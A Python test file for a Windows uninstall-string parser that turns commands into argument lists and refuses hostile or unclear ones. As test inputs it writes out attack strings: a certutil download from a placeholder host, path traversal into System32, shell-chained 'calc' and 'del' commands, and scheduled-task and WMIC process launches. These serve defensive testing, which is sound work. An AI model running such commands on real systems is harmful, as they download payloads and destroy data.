"""Windows uninstall strings become argument lists by CommandLineToArgvW's rules, or are refused."""

from __future__ import annotations

import ntpath
import re
import subprocess
import tomllib

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from appwarden.core.messages import Message
from appwarden.core.removal.windows_commands import INTERPRETERS, Refusal, split_arguments, uninstall_argv
from tests.conftest import PROJECT

FOLDER = r"C:\Program Files (x86)\Tencent\WeChat"
UNINSTALLER = FOLDER + r"\Uninstall.exe"
KES = "{27534751-4A40-48BD-B393-BC3BF28C876E}"
MSIEXEC = r"C:\Windows\System32\msiexec.exe"
OUTSIDE = "the uninstaller {program} is outside the app's folder {folder}"
RUNS_COMMANDS = "the uninstall command starts {program}, which runs other commands, not an uninstaller"
SHARED_FOLDER = "the entry says the app is installed in {folder}, which is {what}, not an app's own folder, so its uninstaller cannot be checked"
FRENCH = tomllib.loads((PROJECT / "assets/translations/fr.toml").read_text(encoding="utf-8"))["messages"]


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        (f'"{UNINSTALLER}"', (UNINSTALLER,)),
        (f"{UNINSTALLER} /S", (UNINSTALLER, "/S")),  # unquoted path with spaces, as Windows finds it
        (f'"{UNINSTALLER}" /S _?={FOLDER}', (UNINSTALLER, "/S", r"_?=C:\Program", "Files", r"(x86)\Tencent\WeChat")),
        (f'"{UNINSTALLER}" "/D=C:\\My Dir\\\\" next', (UNINSTALLER, "/D=C:\\My Dir\\", "next")),
        (f'"{UNINSTALLER}" a\\\\\\"b', (UNINSTALLER, 'a\\"b')),
        (f'"{FOLDER}\\R&D Tools.exe" /S', (FOLDER + r"\R&D Tools.exe", "/S")),  # & inside quotes is a name
        (f"MsiExec.exe /X{KES}", (MSIEXEC, "/x", KES)),
        (f"MsiExec.exe /I{KES}", (MSIEXEC, "/x", KES)),
        (f"msiexec /i {KES.lower()} REBOOT=R", (MSIEXEC, "/x", KES)),
        (rf"C:\Users\Public\msiexec.exe /x {KES}", (MSIEXEC, "/x", KES)),  # never a program of that name elsewhere
    ],
)
def test_uninstall_strings_become_argument_lists(command, argv):
    assert uninstall_argv(command, FOLDER, (KES,)) == argv


def test_quiet_windows_installer_removal_only_from_the_quiet_string():
    assert uninstall_argv(f"MsiExec.exe /X{KES} /qn", FOLDER, (KES,), quiet=True) == (MSIEXEC, "/x", KES, "/qn")


def test_msiexec_is_the_one_in_the_windows_folder_of_the_computer_acted_on():
    assert uninstall_argv(f"MsiExec.exe /X{KES}", "", (KES,), windows_folder="D:/WINNT/") == (r"D:\WINNT\System32\msiexec.exe", "/x", KES)


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("", "the uninstall command is empty"),
        ("   ", "the uninstall command is empty"),
        (f'"{UNINSTALLER}" /S & calc.exe', "the uninstall command uses {characters}, which only a command shell understands"),
        (f'"{UNINSTALLER}" | del C:\\x', "the uninstall command uses {characters}, which only a command shell understands"),
        (f'"{UNINSTALLER}" > C:\\log.txt', "the uninstall command uses {characters}, which only a command shell understands"),
        (f'"{UNINSTALLER}" ^& x', "the uninstall command uses {characters}, which only a command shell understands"),
        ("%ProgramFiles%\\Tencent\\WeChat\\Uninstall.exe", "the uninstall command uses a %VARIABLE% that only a command shell expands"),
        (f'"{UNINSTALLER}"" /S', "the uninstall command has unbalanced quotation marks"),
        (f'"{FOLDER}\\Un"install.exe" /S', "the uninstall command has unbalanced quotation marks"),
        (f'{FOLDER}\\Un"inst"all.exe /S', "the program name of the uninstall command holds a quotation mark"),
        (r'"C:\Windows\Temp\Uninstall.exe" /S', "the uninstaller {program} is outside the app's folder {folder}"),
        (f'"{FOLDER}\\..\\..\\evil.exe"', "the uninstaller {program} is outside the app's folder {folder}"),
        (r"C:\Program Files (x86)\Tencent\WeChatEvil\u.exe", "the uninstaller {program} is outside the app's folder {folder}"),
        ("cmd /c del /q C:\\x", "the uninstall command starts {program}, which runs other commands, not an uninstaller"),
        ('"C:\\Windows\\System32\\cmd.exe" /c rd /s /q x', "the uninstall command starts {program}, which runs other commands, not an uninstaller"),
        (r"rundll32.exe C:\x.dll,Uninstall", "the uninstall command starts {program}, which runs other commands, not an uninstaller"),
        ("uninst.exe /S", "the uninstall command does not name a full program path ({program})"),
        ("MsiExec.exe /X{00000000-0000-0000-0000-000000000000}", "the Windows Installer command names product {code}, which is not this app's"),
        ("MsiExec.exe /X", "the Windows Installer command names no product code"),
        (f'"{UNINSTALLER}"\n/S', "the uninstall command spans several lines or holds a null character"),
    ],
)
def test_hostile_or_unclear_strings_are_refused_with_a_reason(command, reason):
    result = uninstall_argv(command, FOLDER, (KES,))
    assert isinstance(result, Refusal)
    assert result.reason.template == reason


def test_without_an_install_location_an_uninstaller_cannot_be_checked():
    result = uninstall_argv(f'"{UNINSTALLER}"', "", ())
    assert result.reason.template == "the entry does not say where the app is installed, so its uninstaller cannot be checked"


WECHAT_64 = r"C:\Program Files\Tencent\WeChat"
CERTUTIL = r"C:\Windows\System32\certutil.exe -urlcache -split -f http://example.invalid/u.exe C:\Users\Public\u.exe"


@pytest.mark.parametrize(
    "program",
    [
        WECHAT_64 + "/../../../Windows/System32/certutil.exe",  # / is a separator too
        WECHAT_64 + r"\.. \.. \.. \Windows\System32\certutil.exe",  # Windows reads ".. " as ".."
        WECHAT_64 + r"\..\.\..\..\Windows\System32\certutil.exe",
        WECHAT_64 + r"\sub\..\..\WeChatEvil\u.exe",
        r"C:\Program Files\Tencent\WeChat.\..\QQ\u.exe",
        WECHAT_64.upper().replace("\\", "/") + "/../x.exe",
        WECHAT_64 + r"\..\WeChat.exe",  # beside the folder, though its text starts with the folder's
    ],
)
def test_a_program_that_climbs_out_of_the_install_folder_is_refused(program):
    result = uninstall_argv(f'"{program}" -urlcache -f http://example.invalid/u.exe', WECHAT_64, ())
    assert result == Refusal(Message.of(OUTSIDE, program=program, folder=WECHAT_64))


def test_the_unquoted_certutil_string_of_the_report_is_refused():
    command = WECHAT_64 + "/../../../Windows/System32/certutil.exe -urlcache -split -f http://example.invalid/u.exe u.exe"
    program = WECHAT_64 + "/../../../Windows/System32/certutil.exe"
    assert uninstall_argv(command, WECHAT_64, ()) == Refusal(Message.of(OUTSIDE, program=program, folder=WECHAT_64))


@pytest.mark.parametrize(
    ("command", "argv0"),
    [
        (rf"{FOLDER}\.\sub\..\Uninstall.exe /S", UNINSTALLER),
        (rf'"{FOLDER}\sub.\..\Uninstall.exe. " /S', UNINSTALLER),  # trailing dots and spaces go, as in Win32
        ("c:/Program Files (x86)/Tencent//WeChat/Uninstall.exe /S", UNINSTALLER),
        (rf'"{FOLDER.lower()}\Uninstall.exe" /S', r"C:\program files (x86)\tencent\wechat\Uninstall.exe"),
        (rf'"{FOLDER}\v1 \Uninstall.exe" /S', FOLDER + r"\v1\Uninstall.exe"),
    ],
)
def test_what_runs_is_the_normalised_program_that_was_checked(command, argv0):
    assert uninstall_argv(command, FOLDER, ()) == (argv0, "/S")


def test_a_program_inside_the_folder_is_accepted_whatever_the_letter_case_or_spelling_of_the_folder():
    assert uninstall_argv(f'"{UNINSTALLER}"', r" c:/PROGRAM FILES (X86)/tencent/WeChat/. ", ()) == (UNINSTALLER,)


@pytest.mark.parametrize(
    ("folder", "program", "what"),
    [
        (r"C:\Windows\System32", CERTUTIL, "a Windows folder or a folder inside it"),
        ("C:\\", CERTUTIL, "the root folder of a drive"),
        ("c:", CERTUTIL, None),  # not even a folder: "does not say where the app is installed"
        ("C:/windows/", r"C:\Windows\regedit.exe /s C:\x.reg", "a Windows folder or a folder inside it"),
        ("C:\\W\u0131ndows\\System32", CERTUTIL, "a Windows folder or a folder inside it"),  # NTFS upper-cases ı to I
        (r"C:\Windows\System32\wbem", r"C:\Windows\System32\wbem\mofcomp.exe C:\x.mof", "a Windows folder or a folder inside it"),
        (r"D:\Windows.old\Windows\System32", r"D:\Windows.old\Windows\System32\certutil.exe -f", "a Windows folder or a folder inside it"),
        (r"C:\Program Files\Tencent\WeChat\..\..\..", CERTUTIL, "the root folder of a drive"),
        (r"C:\Program Files", r"C:\Program Files\Windows Defender\MpCmdRun.exe -DownloadFile", "a folder that all programs share"),
        (r"C:\Program Files (x86)\ ", r"C:\Program Files (x86)\x\u.exe", "a folder that all programs share"),
        (r"C:\ProgramData", r"C:\ProgramData\x\u.exe", "a folder that all programs share"),
        (r"C:\Program Files\Common Files", r"C:\Program Files\Common Files\x\u.exe", "a folder that all programs share"),
        (r"C:\Program Files\Windows Defender", r"C:\Program Files\Windows Defender\MpCmdRun.exe -DownloadFile",
         "a folder of Windows' own programs or a folder inside it"),
        (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0",
         r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe -DownloadFile",
         "a folder of Windows' own programs or a folder inside it"),
        (r"C:\Users\ana\AppData\Local\Microsoft\WindowsApps", r"C:\Users\ana\AppData\Local\Microsoft\WindowsApps\winget.exe install x",
         "a folder of Windows' own programs or a folder inside it"),
        (r"C:\Users", r"C:\Users\ana\u.exe", "the folder that holds every user's profile"),
        (r"C:\Documents and Settings", r"C:\Documents and Settings\ana\u.exe", "the folder that holds every user's profile"),
        (r"C:\Users\ana", r"C:\Users\ana\Downloads\u.exe", "a user's profile folder"),
        (r"C:\Users\Public", r"C:\Users\Public\u.exe", "a user's profile folder"),
        (r"C:\Users\ana\AppData", r"C:\Users\ana\AppData\x\u.exe", "a user's AppData folder"),
        (r"C:\Users\ana\AppData\Local\.", r"C:\Users\ana\AppData\Local\x\u.exe", "a user's AppData folder"),
        (r"C:\Users\ana\AppData\Roaming ", r"C:\Users\ana\AppData\Roaming\x\u.exe", "a user's AppData folder"),
        (r"C:\Users\ana\AppData\LocalLow\ ", r"C:\Users\ana\AppData\LocalLow\x\u.exe", "a user's AppData folder"),
        (r"C:\Users\ana\AppData\Local\Programs", r"C:\Users\ana\AppData\Local\Programs\x\u.exe", "a folder that all programs share"),
    ],
)
def test_a_folder_shared_by_windows_programs_or_profiles_cannot_vouch_for_an_uninstaller(folder, program, what):
    result = uninstall_argv(program, folder, ())
    if what is None:
        assert result.reason.template == "the entry does not say where the app is installed, so its uninstaller cannot be checked"
    else:
        assert result == Refusal(Message.of(SHARED_FOLDER, folder=folder.strip(), what=Message.of(what)))


@pytest.mark.parametrize(
    ("folder", "program", "windows_folder"),
    [
        (r"C:\Users\ana\AppData\Local\Microsoft", r"C:\Users\ana\AppData\Local\Microsoft\WindowsApps\winget.exe", "C:\\Windows"),
        (r"D:\OS", r"D:\OS\Windows\System32\certutil.exe", r"D:\OS\Windows"),
    ],
)
def test_a_windows_program_inside_an_app_folder_is_refused(folder, program, windows_folder):
    result = uninstall_argv(f'"{program}" -f', folder, (), windows_folder=windows_folder)
    assert result == Refusal(Message.of("the uninstaller {program} is in a folder of Windows' own programs, not the app's", program=program))


def test_the_windows_folder_the_running_windows_reports_is_refused_too():
    result = uninstall_argv(r"E:\WinNT\System32\certutil.exe -f", r"E:\WinNT\System32", (), windows_folder=r"E:\WinNT")
    assert result == Refusal(Message.of(SHARED_FOLDER, folder=r"E:\WinNT\System32", what=Message.of("a Windows folder or a folder inside it")))


@pytest.mark.parametrize(
    "program",
    [
        r'C:\Windows\System32\forfiles.exe /p C:\Windows /m notepad.exe /c "cmd /c calc"',
        rf"{FOLDER}\schtasks.exe /create /tn x /tr calc.exe /sc onlogon",
        rf'"{FOLDER}\wbem\WMIC.exe" process call create calc.exe',
        rf'"{FOLDER}\Python.EXE." -c "import os"',
        rf'"{FOLDER}\cmd.exe\." /c calc',  # cmd.exe once Windows has read the path
        rf'"{FOLDER}\CMD.EXE\sub\.." /c calc',
    ],
)
def test_programs_that_run_other_commands_are_refused_in_any_folder(program):
    result = uninstall_argv(program, r"C:\Windows" if "forfiles" in program else FOLDER, ())
    assert result.reason.template == RUNS_COMMANDS


@pytest.mark.parametrize(
    ("program", "template"),
    [
        (r"\\?\C:\Program Files (x86)\Tencent\WeChat\Uninstall.exe", "the path {path} starts with a Windows device or namespace prefix, which AppWarden cannot check"),
        (r"\\.\C:\Program Files (x86)\Tencent\WeChat\Uninstall.exe", "the path {path} starts with a Windows device or namespace prefix, which AppWarden cannot check"),
        ("//?/C:/Program Files (x86)/Tencent/WeChat/Uninstall.exe", "the path {path} starts with a Windows device or namespace prefix, which AppWarden cannot check"),
        (r"\\fileserver\share\WeChat\Uninstall.exe", "the path {path} is on a network share, not on a disk of the computer itself"),
        (UNINSTALLER + ":hidden.exe", "the path {path} holds a colon after its drive letter, which names an alternate data stream"),
        (UNINSTALLER + "::$DATA", "the path {path} holds a colon after its drive letter, which names an alternate data stream"),
        (r"C:\PROGRA~2\Tencent\WeChat\Uninstall.exe", "the path {path} holds a short name with ~ (like PROGRA~1), which can stand for another folder"),
        (FOLDER + r"\UNINST~1.EXE", "the path {path} holds a short name with ~ (like PROGRA~1), which can stand for another folder"),
        (FOLDER + r"\Un*.exe", "the path {path} holds a character that Windows does not allow in file names"),
        (FOLDER + "\\u\tx.exe", "the path {path} holds a character that Windows does not allow in file names"),
        (FOLDER + r"\... \Uninstall.exe", "the path {path} has a name made only of dots and spaces, which Windows may read as . or .."),
        (FOLDER + r"\sub\ . \..\Uninstall.exe", "the path {path} has a name made only of dots and spaces, which Windows may read as . or .."),
        (FOLDER + r"\NUL.exe", "the path {path} names a Windows device such as NUL or COM1, not a file"),
        (FOLDER + r"\com1 .x\Uninstall.exe", "the path {path} names a Windows device such as NUL or COM1, not a file"),
    ],
)
def test_paths_windows_would_read_differently_from_their_text_are_refused(program, template):
    assert uninstall_argv(f'"{program}" /S', FOLDER, ()) == Refusal(Message.of(template, path=program))


@pytest.mark.parametrize(
    ("folder", "template"),
    [
        (r"\\?\C:\Program Files (x86)\Tencent\WeChat", "the path {path} starts with a Windows device or namespace prefix, which AppWarden cannot check"),
        (r"C:\PROGRA~2\Tencent\WeChat", "the path {path} holds a short name with ~ (like PROGRA~1), which can stand for another folder"),
        (r"C:\Program Files (x86)\Tencent\WeChat\...", "the path {path} has a name made only of dots and spaces, which Windows may read as . or .."),
    ],
)
def test_an_install_folder_windows_would_read_differently_is_refused(folder, template):
    assert uninstall_argv(f'"{UNINSTALLER}"', folder, ()) == Refusal(Message.of(template, path=folder))


def windows_reads(path: str) -> str:
    """How Win32 normalises a full drive path, written for these tests with ntpath: each name loses its
    trailing dots and spaces (". " and ".. " become "." and ".."), then "." and ".." are applied."""
    parts = [part.rstrip(" ") if not part.strip(". ") else part.rstrip(" .") for part in re.split(r"[\\/]", path)]
    return ntpath.normpath("\\".join(parts))


# The folders the shared-folder rule names, for the names these tests draw (upper case, no trailing "\").
FORBIDDEN = {"C:", r"C:\PROGRAM FILES", r"C:\USERS", r"C:\USERS\ANA", r"C:\USERS\ANA\APPDATA", r"C:\USERS\ANA\APPDATA\LOCAL"}


def accepted_program_is_safe(argv: tuple[str, ...], written_program: str, install_location: str) -> None:
    """The property every accepted argv has: its program is what Windows makes of the written one,
    strictly inside the (normalised, allowed) install folder, and not a program that runs commands."""
    program, folder = argv[0], windows_reads(install_location.strip().strip('"')).rstrip("\\").upper()
    assert program == windows_reads(written_program)
    assert program.upper().startswith(folder + "\\") and len(program) > len(folder) + 1
    assert folder not in FORBIDDEN and not folder.startswith(r"C:\WINDOWS")
    assert ntpath.splitext(ntpath.basename(program))[0].lower() not in INTERPRETERS


@given(st.text())
@example(rf'"{UNINSTALLER}" /S')
@example(f"{FOLDER}/../../../Windows/System32/certutil.exe -urlcache")
def test_any_string_gives_a_safe_argument_list_or_a_translated_refusal(command):
    result = uninstall_argv(command, FOLDER, (KES,))
    if isinstance(result, Refusal):
        assert result.reason.template in FRENCH
    elif result[0] == MSIEXEC:
        assert result[1:3] == ("/x", KES)
    else:
        accepted_program_is_safe(result, result[0], FOLDER)  # with nothing left for Windows to normalise


NAMES = st.sampled_from(["Tencent", "WeChat", "Program Files", "Windows", "System32", "Users", "ana", "AppData", "Local", "sub"])
NAME_ENDS = st.sampled_from(["", "", " ", ".", ". ", " ."])
NAME = st.builds(str.__add__, NAMES, NAME_ENDS)
DOTS = st.sampled_from([".", "..", ". ", ".. ", "..  "])
ONLY_DOTS_AND_SPACES = st.sampled_from(["...", "... ", ". .", " "])  # refused: Windows versions read them differently
COMPONENT = st.one_of(NAME, NAME, NAME, NAME, DOTS, DOTS, ONLY_DOTS_AND_SPACES)
SEPARATOR = st.sampled_from(["\\", "/", "\\\\"])
LEAF = st.sampled_from(["Uninstall.exe", "u.exe.", "u.exe ", "cmd.exe", "cmd.exe\\.", "CMD.EXE\\x\\..", "Certutil.EXE", "..", "x"])


@st.composite
def windows_paths(draw, prefix: str = "C:") -> str:
    parts = draw(st.lists(COMPONENT, max_size=7))
    return prefix + "".join(draw(SEPARATOR) + part for part in parts)


@st.composite
def entries(draw) -> tuple[str, str]:
    """An InstallLocation and a program path: unrelated, or the program written below the location."""
    folder = draw(windows_paths())
    base = draw(st.sampled_from([folder, "C:"]))
    return folder, draw(windows_paths(prefix=base)) + draw(SEPARATOR) + draw(LEAF)


@settings(max_examples=400)
@given(entries())
@example((r"C:\Program Files\Tencent\WeChat", r"C:\Program Files\Tencent\WeChat/../../../Windows/System32/certutil.exe"))
@example((r"C:\Program Files\Tencent\WeChat", r"C:\Program Files\Tencent\WeChat\.. \.. \.. \Windows\System32\Certutil.EXE"))
@example((r"C:\Windows\System32", r"C:\Windows\System32\Certutil.EXE"))
@example(("C:\\", r"C:\Windows\System32\Certutil.EXE"))
@example((r"C:\Users\ana\AppData\Local\sub", r"C:\Users\ana\AppData\Local\sub\. \Uninstall.exe"))
def test_an_accepted_program_is_always_strictly_inside_an_allowed_install_folder(entry):
    folder, program = entry
    result = uninstall_argv(f'"{program}" /S', folder, ())
    if isinstance(result, tuple):
        accepted_program_is_safe(result, program, folder)
        assert result[1:] == ("/S",)
    else:
        assert result.reason.template in FRENCH


SAFE_ARGUMENT = st.text(st.characters(blacklist_characters="&|<>^%\0\r\n", blacklist_categories=("Cs",)), max_size=12)


@given(st.lists(SAFE_ARGUMENT, max_size=6))
def test_arguments_quoted_the_windows_way_come_back_unchanged(arguments):
    # subprocess.list2cmdline quotes by the Microsoft C rules, which CommandLineToArgvW reads back.
    line = subprocess.list2cmdline([UNINSTALLER, *arguments])
    result = uninstall_argv(line, FOLDER, ())
    if isinstance(result, Refusal):  # list2cmdline leaves a lone quote unquoted: odd quote counts are refused
        assert result.reason.template == "the uninstall command has unbalanced quotation marks"
    else:
        assert result == (UNINSTALLER, *arguments)


def test_three_quotes_inside_quotes_give_one_literal_quote():
    assert split_arguments('"a"""b"') == ['a"b']
    assert split_arguments('"" x') == ["", "x"]
